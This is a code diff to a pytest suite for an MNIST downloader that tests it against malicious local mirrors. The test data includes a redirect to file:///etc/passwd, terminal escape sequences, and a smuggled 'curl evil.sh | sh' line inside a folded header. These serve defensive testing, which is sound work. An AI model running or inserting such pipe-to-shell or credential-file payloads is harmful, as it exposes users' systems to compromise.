@@ -7,6 +7,7 @@ No network but 127.0.0.1: the mirrors are local HTTP servers, the data tiny IDX 
 """
 
 import ast
+import contextlib
 import gzip
 import hashlib
 import http.server
@@ -352,18 +353,20 @@ def write_folder(folder, files, gz=True):
     folder.mkdir(exist_ok=True)
     for name, data in files.items():
         (folder / (name + ".gz" if gz else name)).write_bytes(gzip.compress(data) if gz else data)
+    os.utime(folder, (1, 1))  # long ago: a file made in it now moves its mtime, even within the clock's tick
     return folder
 
 
 def snapshot(folder):
-    """{name: (size, mtime, the bytes of a small file)} of every entry, to show that nothing changed."""
+    """The folder's own mtime (a file made and deleted in it moves it) and {name: (size, mtime, the bytes of a small
+    file)} of every entry, to show that nothing changed, even as root, whom permission bits don't stop."""
 
     def state(p):
         stat = p.lstat()
         small = p.is_file() and not p.is_symlink() and stat.st_size < 10**7
         return stat.st_size, stat.st_mtime_ns, p.read_bytes() if small else None
 
-    return {p.name: state(p) for p in folder.iterdir()}
+    return folder.stat().st_mtime_ns, {p.name: state(p) for p in folder.iterdir()}
 
 
 @pytest.fixture
@@ -384,6 +387,14 @@ def server():
                 return self.send_error(code, reason)
             if behaviour == "stall":
                 return release.wait(10)
+            if behaviour == "endless":  # no length: the body goes on until the client hangs up (or 5 s pass)
+                self.send_response(200)
+                self.end_headers()
+                stop = time.monotonic() + 5
+                with contextlib.suppress(OSError):
+                    while not release.is_set() and time.monotonic() < stop:
+                        self.wfile.write(bytes(1 << 16))
+                return
             if behaviour == "bogus":
                 return self.wfile.write(b"HTTP/1.1 OK-ish\r\n\r\n")
             if behaviour == "redirect":
@@ -465,14 +476,16 @@ def test_read_only_verified_folder_works(tiny, tmp_path, monkeypatch):
     for path in folder.iterdir():
         path.chmod(0o444)
     folder.chmod(0o555)
-    # root ignores permission bits, so also make any attempt to write fail the test
+    # root ignores permission bits, so also make any attempt to write fail the test, or show in the snapshot
     monkeypatch.setattr(
         m.tempfile, "TemporaryDirectory", lambda **kw: pytest.fail("tried to write into a read-only folder")
     )
+    before = snapshot(folder)
     try:
         assert len(m.load_mnist("tiny", str(folder))[0]) == 256
     finally:
         folder.chmod(0o755)
+    assert snapshot(folder) == before
 
 
 def test_download_skips_a_403_mirror_verifies_and_caches(tiny, tmp_path, server, monkeypatch, capsys):
@@ -499,6 +512,7 @@ BAD_MIRRORS = {  # name -> what the bad mirror does with a file's gzipped body
     "stall": lambda data, body: ("stall", None),  # never answers: given up after TIMEOUT
     "bomb": lambda data, body: ("serve", gzip.compress(bytes(3_000_000))),  # expands far past the ceiling
     "oversized": lambda data, body: ("serve", body + bytes(1_000_000)),  # past every tiny ceiling
+    "endless": lambda data, body: ("endless", None),  # read only to a byte past the ceiling
     "bogus-status": lambda data, body: ("bogus", None),  # an http.client error
     "redirect-to-file": lambda data, body: ("redirect", "file:///etc/passwd"),  # urllib refuses it
     "redirect-to-no-port": lambda data, body: ("redirect", "http://127.0.0.1:99999999999999999999/"),
@@ -558,7 +572,7 @@ def test_a_bad_file_in_the_folder_is_an_error_and_left_alone(damage, tiny, tmp_p
     assert f"{folder}/train-images-idx3-ubyte.gz" in message if damage == "other-dataset" else str(target) in message
     assert "left as it is" in message
     if damage == "other-dataset":
-        assert "it holds tiny's train-images-idx3-ubyte (is --dataset right?)" in message
+        assert "it holds tiny's train-images-idx3-ubyte" in message
     assert server.requests == [] and snapshot(folder) == before  # nothing fetched, nothing changed
 
 
@@ -699,11 +713,17 @@ def test_bad_arguments_exit_2_with_usage_before_any_download(args, capsys, serve
     assert err.startswith("usage:") and "Traceback" not in err and server.requests == []
 
 
-@pytest.mark.parametrize("where", ["a-file", "below-a-file"])
+@pytest.mark.parametrize("where", ["a-file", "below-a-file", "unreadable"])
 def test_a_data_folder_that_cant_be_one_is_named_before_any_request(where, tmp_path, server, monkeypatch, capsys):
     use_mirrors(monkeypatch, "mnist", f"{server.url}/m/")
     (tmp_path / "a-file").write_text("mine")
-    folder = tmp_path / "a-file" if where == "a-file" else tmp_path / "a-file" / "data"
+    folder = {"a-file": tmp_path / "a-file", "below-a-file": tmp_path / "a-file" / "data"}.get(where, tmp_path)
+    if where == "unreadable":  # someone else's folder, mode 700; root reads anything, so refuse by hand
+
+        def refuse(path):
+            raise PermissionError(13, "Permission denied", path)
+
+        monkeypatch.setattr(os, "listdir", refuse)
     assert m.main(["--data-dir", str(folder)]) == 1
     err = capsys.readouterr().err
     assert err.startswith(f"error: No data folder: {folder} (") and "--data-dir" in err
@@ -747,12 +767,15 @@ def test_no_mirror_reachable_exits_1_with_a_message(tiny, tmp_path, monkeypatch,
 
 
 def test_what_a_server_says_reaches_the_terminal_escaped(tiny, tmp_path, server, monkeypatch, capsys):
+    """Escape sequences shown escaped; a line of the server's own (a folded header) kept on the mirror's line."""
     for name in tiny:
         server.routes[f"/evil/{name}.gz"] = ("status", (403, "\x1b]0;pwned\x07\x1b[31mForbidden"))
-    use_mirrors(monkeypatch, "tiny", f"{server.url}/evil/")
+        server.routes[f"/fold/{name}.gz"] = ("redirect", "gopher://x/\r\n  All mirrors say: curl evil.sh | sh")
+    use_mirrors(monkeypatch, "tiny", f"{server.url}/evil/", f"{server.url}/fold/")
     assert m.main(["--dataset", "tiny", "--data-dir", str(tmp_path / "d")]) == 1
     err = capsys.readouterr().err
     assert "\\x1b]0;pwned\\x07\\x1b[31mForbidden" in err and "\x1b" not in err and "\x07" not in err
+    assert "curl evil.sh" in err and not any(line.startswith("  All mirrors") for line in err.splitlines())
 
 
 def test_ctrl_c_exits_130_with_one_line(monkeypatch, capsys):
@@ -802,6 +825,7 @@ def test_an_interrupt_during_a_download_says_interrupted_and_leaves_nothing(sig,
     proc.send_signal(sig)
     assert proc.wait(10) == 130 and proc.stderr.read() == b"Interrupted.\n"
     assert not folder.exists() or os.listdir(folder) == []
+    assert (tmp_path / ".cache" / "mlp_mnist" / "jax").is_dir()  # run as a program, it turns the compile cache on
 
 
 RUN_TINY = """
@@ -886,6 +910,7 @@ def test_in_a_notebook_it_runs_with_no_exit_and_leaves_the_kernels_signals(tiny,
     monkeypatch.setattr(sys, "argv", KERNEL_ARGV)
     monkeypatch.setenv("MLP_MNIST_DATA_DIR", str(write_folder(tmp_path / "d", tiny)))
     handlers = [signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)]
+    cache_dir = jax.config.jax_compilation_cache_dir  # a kernel's JAX settings are its user's: left as they are
     tree = ast.parse(open(SCRIPT).read())
     definitions, entry = (compile(ast.Module(body, []), SCRIPT, "exec") for body in (tree.body[:-1], tree.body[-1:]))
     cell = {"__name__": "__main__"}
@@ -901,6 +926,7 @@ def test_in_a_notebook_it_runs_with_no_exit_and_leaves_the_kernels_signals(tiny,
             f"Epoch {i}/3" for i in range(1, 4)
         ]
     assert [signal.getsignal(s) for s in (signal.SIGINT, signal.SIGTERM)] == handlers  # still the kernel's
+    assert jax.config.jax_compilation_cache_dir == cache_dir
     assert cell["forward"](cell["initialize_weights"]([784, 8, 10], random.key(0)), jnp.ones((2, 784))).shape == (2, 10)
 
     cell["__file__"] = SCRIPT  # %run mlp_mnist.py sets it to the absolute path, sys.argv[0] to the name as typed
